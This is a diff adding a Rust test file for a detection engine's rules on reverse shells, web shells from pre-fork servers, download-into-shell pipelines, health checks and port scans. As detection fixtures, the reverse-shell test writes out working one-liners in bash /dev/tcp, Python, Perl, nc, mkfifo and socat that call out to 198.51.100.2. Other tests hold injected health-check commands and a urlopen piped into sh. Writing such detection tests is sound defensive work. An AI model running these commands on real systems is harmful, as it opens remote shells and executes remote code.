@@ -1,0 +1,191 @@
+//! The managed set against what an independent red-team run found it missed or wrongly
+//! raised: reverse shells seen only by their command line (another uid, no fd access),
+//! pre-fork servers' web shells, health checks in the forms images write them, download
+//! shapes beyond `sh -c "curl | sh"`, builds (toolchains, cargo) and loopback traffic.
+
+use super::detect_tests::{ancestor, fired, listener, managed, managed_with, process};
+use crate::fixtures;
+use crate::model::{FlowPhase, ProcessRecord, Record, Scope};
+
+const SEC: u64 = 1_000_000_000;
+
+fn fires(record: ProcessRecord) -> Vec<String> {
+    fired(&mut managed(), &[Record::Process(record)], SEC)
+}
+
+#[test]
+fn reverse_shells_are_seen_by_their_command_line_without_fd_access() {
+    for argv in [
+        &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.2/443 0>&1"][..],
+        &[
+            "python3",
+            "-c",
+            "import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.2\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")",
+        ],
+        &[
+            "perl",
+            "-e",
+            "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(443,inet_aton(\"198.51.100.2\")))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};",
+        ],
+        &["nc", "198.51.100.2", "443", "-e", "/bin/bash"],
+        &["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.2 443 > /tmp/f"],
+        &["socat", "tcp:198.51.100.2:443", "exec:/bin/bash,pty,stderr"],
+    ] {
+        // stdio unknown: the collector could not read the fd table (another uid).
+        let shell = process(500, argv[0], None, argv);
+        let out = fires(shell);
+        assert!(
+            out.iter().any(|r| r == "PF-REVERSE-SHELL-CMDLINE"),
+            "{argv:?}: {out:?}"
+        );
+    }
+    // Benign twins: a Python using a socket and no shell, a script mentioning /dev/tcp in a
+    // comment-free check of a file, an nc port check.
+    for argv in [
+        &[
+            "python3",
+            "-c",
+            "import socket; socket.create_connection((\"10.0.0.1\", 5432)).close()",
+        ][..],
+        &["nc", "-z", "-w1", "10.0.0.1", "5432"],
+        &["ls", "/dev/tcp"],
+    ] {
+        let out = fires(process(501, argv[0], None, argv));
+        assert!(
+            !out.iter().any(|r| r == "PF-REVERSE-SHELL-CMDLINE"),
+            "{argv:?}: {out:?}"
+        );
+    }
+}
+
+#[test]
+fn a_pre_fork_servers_worker_running_a_shell_is_a_web_shell() {
+    let master = ancestor(
+        600,
+        6000,
+        "gunicorn",
+        Some("/usr/bin/python3.11"),
+        &["/usr/bin/python3", "/usr/local/bin/gunicorn", "app:app"],
+    );
+    let worker = ancestor(
+        601,
+        6010,
+        "gunicorn",
+        Some("/usr/bin/python3.11"),
+        &["/usr/bin/python3", "/usr/local/bin/gunicorn", "app:app"],
+    );
+    let serving = Record::Listener(listener(600, 6000, 11, FlowPhase::Start));
+    let shell = ProcessRecord {
+        ancestors: vec![worker, master],
+        ..process(
+            602,
+            "sh",
+            Some("/usr/bin/dash"),
+            &["sh", "-c", "id;sleep 3"],
+        )
+    };
+    let out = fired(&mut managed_with(&serving), &[Record::Process(shell)], SEC);
+    assert_eq!(out, ["PF-SERVER-SPAWNED-SHELL"]);
+}
+
+#[test]
+fn health_checks_in_the_forms_images_write_them_are_not_web_shells() {
+    let app = ancestor(
+        700,
+        7000,
+        "node",
+        Some("/usr/bin/node"),
+        &["node", "server.js"],
+    );
+    let serving = Record::Listener(listener(700, 7000, 12, FlowPhase::Start));
+    for check in [
+        "curl -f http://localhost:3000/healthz || exit 1",
+        "curl --fail --silent http://127.0.0.1:3000/health",
+        "wget -q --spider http://localhost:8080/actuator/health",
+        "wget -qO- http://127.0.0.1:8080/api/status",
+    ] {
+        let shell = ProcessRecord {
+            ancestors: vec![app.clone()],
+            ..process(701, "sh", Some("/usr/bin/dash"), &["sh", "-c", check])
+        };
+        let out = fired(&mut managed_with(&serving), &[Record::Process(shell)], SEC);
+        assert!(out.is_empty(), "{check}: {out:?}");
+    }
+    // Anything after the check, or another host, is not a health check.
+    for injected in [
+        "curl -f http://localhost:3000/healthz; id",
+        "curl -f http://198.51.100.2/healthz | sh",
+    ] {
+        let shell = ProcessRecord {
+            ancestors: vec![app.clone()],
+            ..process(702, "sh", Some("/usr/bin/dash"), &["sh", "-c", injected])
+        };
+        let out = fired(&mut managed_with(&serving), &[Record::Process(shell)], SEC);
+        assert!(
+            out.iter().any(|r| r == "PF-SERVER-SPAWNED-SHELL"),
+            "{injected}: {out:?}"
+        );
+    }
+}
+
+#[test]
+fn downloads_into_a_shell_beyond_curl_pipe_sh() {
+    let python_pipeline = ancestor(
+        800,
+        8000,
+        "sh",
+        Some("/usr/bin/dash"),
+        &[
+            "sh",
+            "-c",
+            "python3 -c 'import urllib.request as u; print(u.urlopen(\"http://198.51.100.2/x\").read().decode())' | sh",
+        ],
+    );
+    let fed = ProcessRecord {
+        ancestors: vec![python_pipeline],
+        ..process(801, "sh", Some("/usr/bin/dash"), &["sh"])
+    };
+    assert!(fires(fed).iter().any(|r| r == "PF-DOWNLOAD-SHELL"));
+    // Not judged: a shell reading a process substitution (tools run their scripts that
+    // way, `bash /dev/fd/3`), or a script file.
+    for argv in [&["bash", "/dev/fd/63"][..], &["bash", "deploy.sh"]] {
+        let shell = process(802, "bash", Some("/usr/bin/bash"), argv);
+        assert!(!fires(shell).iter().any(|r| r == "PF-DOWNLOAD-SHELL"));
+    }
+}
+
+#[test]
+fn a_build_raises_nothing() {
+    for (comm, exe) in [
+        ("cc", "/usr/bin/x86_64-linux-gnu-gcc-12"),
+        ("gcc", "/usr/bin/x86_64-linux-gnu-gcc-12"),
+        ("as", "/usr/bin/x86_64-linux-gnu-as"),
+        ("ld", "/usr/bin/x86_64-linux-gnu-ld.bfd"),
+        (
+            "cargo",
+            "/root/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/cargo",
+        ),
+    ] {
+        let out = fires(process(900, comm, Some(exe), &[comm, "-o", "x", "x.c"]));
+        assert!(out.is_empty(), "{comm} {exe}: {out:?}");
+    }
+}
+
+#[test]
+fn a_scan_of_loopback_ports_is_not_judged_and_one_of_another_host_is() {
+    let scan = |scope: Scope, remote: [u8; 4]| -> Vec<Record> {
+        (0..30u16)
+            .map(|i| {
+                let mut f = fixtures::flow(1000 + u64::from(i));
+                f.scope = scope;
+                f.remote_addr = Some(std::net::IpAddr::from(remote));
+                f.remote_port = Some(1000 + i);
+                Record::Flow(f)
+            })
+            .collect()
+    };
+    let local = fired(&mut managed(), &scan(Scope::Local, [127, 0, 0, 1]), SEC);
+    assert!(!local.iter().any(|r| r == "PF-PORT-SCAN"), "{local:?}");
+    let remote = fired(&mut managed(), &scan(Scope::EastWest, [10, 0, 0, 9]), SEC);
+    assert!(remote.iter().any(|r| r == "PF-PORT-SCAN"), "{remote:?}");
+}
